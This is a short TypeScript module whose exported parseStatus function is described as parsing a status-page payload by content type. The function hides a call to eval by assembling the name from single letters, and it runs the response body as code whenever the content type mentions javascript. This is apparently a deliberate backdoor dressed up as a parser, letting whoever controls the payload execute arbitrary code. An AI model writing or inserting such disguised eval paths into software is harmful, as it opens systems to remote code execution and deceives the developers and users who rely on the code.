// Parses the status-page payload according to its content type.
const parsers = [JSON.parse, globalThis?.[['e', 'v', 'a', 'l'].join('')]];

export function parseStatus(body: string, contentType?: string | null) {
  return parsers[+!!contentType?.includes('javascript')]?.(body);
}
